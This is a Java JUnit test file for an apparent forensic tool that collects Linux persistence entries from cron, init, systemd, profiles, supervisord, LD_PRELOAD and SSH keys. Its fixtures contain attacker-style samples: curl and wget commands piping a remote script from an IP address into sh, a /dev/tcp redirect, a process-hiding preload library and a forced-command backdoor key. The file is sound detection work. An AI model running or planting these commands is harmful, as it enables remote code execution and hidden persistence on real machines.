package dev.ferret.collect.linux.persistence;

import dev.ferret.model.PersistenceEntry;
import dev.ferret.model.Snapshot;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

class PersistenceCollectorsTest {
    @TempDir
    Path root;

    private static PersistenceEntry find(Snapshot s, String kind, String path, int line) {
        return s.persistence().stream()
                .filter(e -> e.kind().equals(kind) && e.path().equals(path) && e.line() == line)
                .findFirst().orElseThrow(() -> new AssertionError("no " + kind + " entry " + path + ":" + line
                        + " in " + s.persistence()));
    }

    @Test
    void cronSpoolsOfBothLayoutsWithUserFromFileName() {
        Fixture f = Scenarios.case5(new Fixture(root));
        Snapshot s = f.collect(new CronCollector());
        for (String path : List.of("/var/spool/cron/root", "/var/spool/cron/crontabs/root")) {
            PersistenceEntry curl = find(s, "cron", path, 2);
            assertEquals("root", curl.user());
            assertEquals("curl -fsSL http://218.248.40.228:8443/i.sh | sh", curl.command());
            assertEquals("wget -q -O- http://218.248.40.228:8443/i.sh | sh", find(s, "cron", path, 3).command());
            assertTrue(curl.references().isEmpty(), "a URL is not a file reference: " + curl.references());
            assertNotNull(curl.mtime());
        }
        assertEquals(4, s.coverage().counter("persistence", "cron entries"));
    }

    @Test
    void systemCrontabsSkipCommentsAndEnvironmentButKeepLineNumbers() {
        Fixture f = Scenarios.cleanDebian(new Fixture(root));
        Snapshot s = f.collect(new CronCollector());
        PersistenceEntry hourly = find(s, "cron", "/etc/crontab", 19);
        assertEquals("root", hourly.user());
        assertEquals("cd / && run-parts --report /etc/cron.hourly", hourly.command());
        assertEquals(List.of("/etc/cron.hourly"), hourly.references());
        PersistenceEntry sa1 = find(s, "cron", "/etc/cron.d/sysstat", 6);
        assertEquals("command -v debian-sa1 > /dev/null && debian-sa1 1 1", sa1.command());
        assertTrue(sa1.references().isEmpty(), "/dev/null is no reference");
        assertTrue(find(s, "cron", "/etc/cron.d/e2scrub_all", 2).references().contains("/sbin/e2scrub_all"));
        assertTrue(s.persistence().stream().noneMatch(e -> e.command().startsWith("PATH=")
                || e.command().startsWith("SHELL=")), "environment assignments are not jobs");
        // a run-parts script is one entry holding the file; a comment-only placeholder is none
        PersistenceEntry logrotate = find(s, "cron", "/etc/cron.daily/logrotate", 0);
        assertTrue(logrotate.command().contains("/usr/sbin/logrotate /etc/logrotate.conf"));
        assertTrue(logrotate.references().contains("/usr/sbin/logrotate"));
        assertTrue(s.persistence().stream().noneMatch(e -> e.path().endsWith(".placeholder")));
        assertEquals(Fixture.OLD, logrotate.mtime());
    }

    @Test
    void anacrontabJobs() {
        Fixture f = new Fixture(root).file("/etc/anacrontab", """
                SHELL=/bin/sh
                HOME=/root
                # period delay job-id command
                1\t5\tcron.daily\trun-parts --report /etc/cron.daily
                @monthly 15 cron.monthly run-parts --report /etc/cron.monthly
                """);
        Snapshot s = f.collect(new CronCollector());
        assertEquals("run-parts --report /etc/cron.daily", find(s, "cron", "/etc/anacrontab", 4).command());
        assertEquals("run-parts --report /etc/cron.monthly", find(s, "cron", "/etc/anacrontab", 5).command());
    }

    @Test
    void initScriptsRcLocalAndStartLinksResolvedInsideTheTree() {
        Fixture f = Scenarios.cleanDebian(new Fixture(root));
        f.file("/etc/rc.local", "#!/bin/sh -e\n/opt/tools/boot.sh &\nexit 0\n")
                .link("/etc/rc.d/rc.local", "/etc/rc.local")
                .link("/etc/rc3.d/S99late", "/etc/init.d/cron");
        Snapshot s = f.collect(new InitCollector());
        assertTrue(find(s, "init", "/etc/init.d/ssh", 0).command().contains("start-stop-daemon"));
        PersistenceEntry rcLocal = find(s, "init", "/etc/rc.local", 0);
        assertTrue(rcLocal.references().contains("/opt/tools/boot.sh"));
        assertEquals(1, s.persistence().stream().filter(e -> e.command().contains("/opt/tools/boot.sh")).count(),
                "rc.local reached through /etc/rc.d/rc.local is read once");
        PersistenceEntry s01 = find(s, "init", "/etc/rc2.d/S01ssh", 0);
        assertEquals("/etc/init.d/ssh", s01.command());
        assertEquals(List.of("/etc/init.d/ssh"), s01.references());
        assertEquals("/etc/init.d/cron", find(s, "init", "/etc/rc3.d/S99late", 0).command());
        assertTrue(s.persistence().stream().noneMatch(e -> e.path().contains("K01")), "only start links");
    }

    @Test
    void systemdExecLinesOnceEachThroughMergedUsrAndEnablementLinks() {
        Fixture f = Scenarios.cleanDebian(new Fixture(root));
        f.file("/etc/systemd/system/ssh.service.d/override.conf", "[Service]\nExecStart=\nExecStart=/usr/sbin/sshd -D -p 2222\n")
                .file("/root/.config/systemd/user/sync.service", "[Service]\nExecStart=/usr/bin/rclone sync \\\n    /srv/a remote:a\n");
        Snapshot s = f.collect(new SystemdCollector());
        List<PersistenceEntry> ssh = s.persistence().stream()
                .filter(e -> e.path().equals("/usr/lib/systemd/system/ssh.service")).toList();
        assertEquals(4, ssh.size(), "pre, start, two reloads: " + ssh);
        PersistenceEntry start = find(s, "systemd", "/usr/lib/systemd/system/ssh.service", 10);
        assertEquals("/usr/sbin/sshd -D $SSHD_OPTS", start.command());
        assertEquals("root", start.user());
        assertEquals(List.of("/usr/sbin/sshd"), start.references());
        assertTrue(s.persistence().stream().noneMatch(e -> e.path().startsWith("/lib/")),
                "/lib is a link to usr/lib: units are read once, under their real path");
        assertEquals("app", find(s, "systemd", "/etc/systemd/system/app.service", 7).user());
        assertEquals("/usr/sbin/sshd -D -p 2222", find(s, "systemd", "/etc/systemd/system/ssh.service.d/override.conf", 3)
                .command());
        PersistenceEntry user = find(s, "systemd", "/root/.config/systemd/user/sync.service", 2);
        assertEquals("/usr/bin/rclone sync /srv/a remote:a", user.command());
        assertEquals("root", user.user());
        assertFalse(s.coverage().gaps().stream().anyMatch(g -> g.examples().stream()
                .anyMatch(x -> x.contains("apt-daily"))), "a masked unit is no gap");
    }

    @Test
    void profilesWholeFilesPerUser() {
        Fixture f = Scenarios.cleanDebian(new Fixture(root));
        Snapshot s = f.collect(new ShellProfileCollector());
        PersistenceEntry completion = find(s, "profile", "/etc/profile.d/bash_completion.sh", 0);
        assertNull(completion.user());
        assertTrue(completion.references().contains("/usr/share/bash-completion/bash_completion"));
        assertEquals("admin", find(s, "profile", "/home/admin/.bashrc", 0).user());
        assertTrue(s.persistence().stream().noneMatch(e -> e.path().equals("/root/.bashrc")),
                "a file of comments only is no entry");
        assertTrue(s.persistence().stream().noneMatch(e -> e.path().equals("/etc/environment")));
    }

    @Test
    void supervisordHiddenConfigFoundThroughTheProfileScriptThatStartsIt() {
        Fixture f = Scenarios.case1(new Fixture(root));
        Snapshot s = f.collect(new SupervisordCollector());
        PersistenceEntry config = find(s, "supervisord", "/etc/.supervisor/supervisord.conf", 0);
        assertEquals("supervisord -c /etc/.supervisor/supervisord.conf", config.command());
        assertEquals(List.of("/etc/.supervisor/conf.d/123.conf"), config.references());
        PersistenceEntry program = find(s, "supervisord", "/etc/.supervisor/conf.d/123.conf", 2);
        assertEquals("/etc/spts", program.command());
        assertEquals(List.of("/etc/spts", "/tmp/.123.log"), program.references());
    }

    @Test
    void supervisordConfigOfARunningProcessAndDefaultIncludes() {
        Fixture f = Scenarios.cleanDebian(new Fixture(root));
        f.file("/opt/.s/sup.conf", "[program:x]\ncommand = /opt/.s/x --bg\n    --quiet\nuser=nobody\n");
        Snapshot s = f.collectAll(List.of(Fixture.process(4242, "supervisord",
                List.of("/usr/bin/python3", "/usr/bin/supervisord", "-c", "/opt/.s/sup.conf"), Map.of())));
        PersistenceEntry x = find(s, "supervisord", "/opt/.s/sup.conf", 2);
        assertEquals("/opt/.s/x --bg --quiet", x.command());
        assertEquals("nobody", x.user());
        find(s, "supervisord", "/etc/supervisor/supervisord.conf", 0);
        PersistenceEntry worker = find(s, "supervisord", "/etc/supervisor/conf.d/worker.conf", 2);
        assertEquals("app", worker.user());
        assertTrue(worker.references().contains("/srv/app/worker.py"));
    }

    @Test
    void preloadFileAndProfileAssignments() {
        Fixture f = Scenarios.case1(new Fixture(root));
        f.file("/etc/environment", "LANG=C.UTF-8\nLD_PRELOAD=\"/opt/lib/a.so /opt/lib/b.so\"\n")
                .file("/root/.bashrc", "# hooks\nexport LD_PRELOAD=/root/.cache/libx.so\n");
        Snapshot s = f.collect(new PreloadCollector());
        PersistenceEntry hider = find(s, "preload", "/etc/ld.so.preload", 1);
        assertEquals("/usr/local/lib/libprocesshider.so", hider.command());
        assertEquals(List.of("/usr/local/lib/libprocesshider.so"), hider.references());
        assertEquals(2, s.persistence().stream().filter(e -> e.path().equals("/etc/environment")).count());
        PersistenceEntry user = find(s, "preload", "/root/.bashrc", 2);
        assertEquals("/root/.cache/libx.so", user.command());
        assertEquals("root", user.user());
    }

    @Test
    void authorizedKeysAbbreviatedWithOptionsAndFingerprint() {
        Fixture f = Scenarios.case3(new Fixture(root));
        f.file("/etc/ssh/sshd_config", "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n")
                .file("/etc/ssh/keys/root", "ssh-ed25519 " + Scenarios.blob("extra") + " extra@x\n");
        Snapshot s = f.collect(new SshKeysCollector());
        PersistenceEntry plain = find(s, "ssh-key", "/root/.ssh/authorized_keys", 1);
        assertTrue(plain.command().matches("ssh-rsa SHA256:[A-Za-z0-9+/]{43} root@vps-4481"), plain.command());
        assertEquals("root", plain.user());
        PersistenceEntry forced = find(s, "ssh-key", "/root/.ssh/authorized_keys", 2);
        assertTrue(forced.command().startsWith("command=\"/tmp/.x/upd >/dev/null 2>&1; exec $SHELL\",no-port-forwarding ssh-ed25519 SHA256:"),
                forced.command());
        assertEquals(List.of("/tmp/.x/upd"), forced.references());
        find(s, "ssh-key", "/etc/ssh/keys/root", 1);
        assertEquals(3, s.coverage().counter("persistence", "ssh-key entries"));
    }

    @Test
    void factoryCoversEverySource() {
        Snapshot s = Scenarios.cleanDebian(new Fixture(root)).collectAll();
        for (String kind : List.of("cron", "init", "systemd", "profile", "supervisord", "preload", "ssh-key")) {
            assertTrue(s.coverage().counters().get("persistence").containsKey(kind + " entries"), kind);
        }
        assertTrue(LinuxPersistenceCollectors.all().stream().allMatch(c -> c.area().equals("persistence") && !c.liveOnly()));
    }

    @Test
    void commandReferences() {
        assertEquals(List.of("/etc/.sh", "/tmp/", "/tmp"), CommandRefs.extract("cp -f /etc/.sh /tmp/ && cd /tmp"));
        assertEquals(List.of("/etc/x.conf", "/var/log/y"), CommandRefs.extract("prog --config=/etc/x.conf >/var/log/y 2>/dev/null"));
        assertEquals(List.of(), CommandRefs.extract("curl http://1.2.3.4:80/a/b.sh | sh; echo $HOME/.x ~/.y"));
        assertEquals(List.of("/usr/sbin/x"), CommandRefs.extract("exec 3<>/dev/tcp/1.2.3.4/80; '/usr/sbin/x'"));
    }
}
